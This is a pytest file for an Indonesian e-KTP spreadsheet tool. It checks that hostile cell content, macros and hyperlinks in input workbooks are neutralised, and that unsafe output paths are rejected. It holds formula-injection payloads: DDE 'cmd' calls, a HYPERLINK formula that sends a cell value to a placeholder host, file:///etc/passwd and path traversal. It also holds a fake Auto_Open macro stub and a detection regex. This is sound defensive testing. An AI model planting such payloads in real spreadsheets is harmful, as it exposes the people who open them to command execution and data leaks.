"""What a hostile sender may put into a workbook comes out as text or not at all."""

from __future__ import annotations

import re
from pathlib import Path
from zipfile import ZIP_DEFLATED, ZipFile

import pytest
from openpyxl import load_workbook

from ektp_excel.perintah import main
from penjaga.berkas import ROOT

CONTOH = ROOT / "examples" / "buku_jaten.xlsx"
JAHAT = (
    '=HYPERLINK("http://contoh.invalid/?x="&A1;"klik")',
    "=cmd|'/c calc'!A1",
    "+SUM(1;1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "http://contoh.invalid/",
    "mailto:a@contoh.invalid",
    "file:///etc/passwd",
    "{{ 7*7 }}{% raw %}",
    "<w:p>x</w:p>&amp;",
    "../../../rahasia",
    "x" * 32_767,
)
# Any of these would be something that a reader of the file runs or follows; links to sheets of the same workbook are none.
_HIDUP = re.compile(rb"<f[ >]|vbaProject|<hyperlink [^>]*r:id|externalLink|ddeLink|oleObject")


def alive(hasil: Path) -> list[str]:
    """The parts of an .xlsx that hold a formula, a link, or a macro; the charts' own references are none."""
    with ZipFile(hasil) as arsip:
        return [
            nama
            for nama in arsip.namelist()
            if "chart" not in nama and (_HIDUP.search(arsip.read(nama)) or "vba" in nama)
        ]


def rekon(buku: Path, folder: Path) -> Path:
    hasil = folder / "hasil.xlsx"
    assert main(["rekon", str(buku), "--per", "2012-08-28", "-o", str(hasil)]) == 0
    return hasil


@pytest.mark.parametrize("perintah", ["rekon", "sisir", "samarkan"])
def test_hostile_text_in_every_text_column(perintah: str, tmp_path: Path) -> None:
    buku = load_workbook(CONTOH)
    for nama in ("PENDUDUK", "UNDANGAN", "PEREKAMAN"):
        lembar = buku[nama]
        kepala = next(n for n in range(1, 21) if any("NIK" in str(c.value or "") for c in lembar[n]))
        kolom = {str(c.value).upper(): c.column for c in lembar[kepala] if c.value}
        teks = [
            i
            for judul, i in kolom.items()
            if any(k in judul for k in ("NAMA", "ALAMAT", "KET", "TEMPAT", "DESA", "UNDANGAN"))
        ]
        for n, isi in enumerate(JAHAT):
            for i in teks:
                sel = lembar.cell(kepala + 2 + n, i)
                sel.value, sel.data_type = isi, "s"
    asal, hasil = tmp_path / "jahat.xlsx", tmp_path / "hasil.xlsx"
    buku.save(asal)
    assert main([perintah, str(asal), "--per", "2012-08-28", "-o", str(hasil)]) == 0
    assert not alive(hasil)


def test_macros_in_the_input_are_neither_run_nor_kept(tmp_path: Path) -> None:
    asal = tmp_path / "bermakro.xlsm"
    with ZipFile(CONTOH) as lama, ZipFile(asal, "w", ZIP_DEFLATED) as baru:
        for nama in lama.namelist():
            baru.writestr(nama, lama.read(nama))
        baru.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"Sub Auto_Open()" * 100)
    assert alive(asal)
    assert not alive(rekon(asal, tmp_path))


@pytest.mark.parametrize("nama", ["PENDUDUK", "UNDANGAN"])
def test_a_link_in_a_cell_does_not_come_along(nama: str, tmp_path: Path) -> None:
    buku = load_workbook(CONTOH)
    for n in range(7, 20):
        buku[nama].cell(n, 3).hyperlink = "http://contoh.invalid/"
    asal = tmp_path / "bertaut.xlsx"
    buku.save(asal)
    assert alive(asal)
    assert not alive(rekon(asal, tmp_path))


@pytest.mark.parametrize(
    "keluaran",
    ["{map}/tiada/../hasil.xlsx", "{map}/CON/hasil.xlsx", "{map}/" + "x" * 300 + ".xlsx", "{map}", "{map}/hasil.xlsm"],
)
def test_odd_places_for_the_output(keluaran: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """One line, and nothing anywhere; a path through a folder that is not there is no way around."""
    sebelum = sorted(tmp_path.rglob("*"))
    kode = main(["rekon", str(CONTOH), "--per", "2012-08-28", "-o", keluaran.format(map=tmp_path)])
    pesan = capsys.readouterr().err
    assert kode == 2
    assert pesan.count("\n") == 1
    assert sorted(tmp_path.rglob("*")) == sebelum
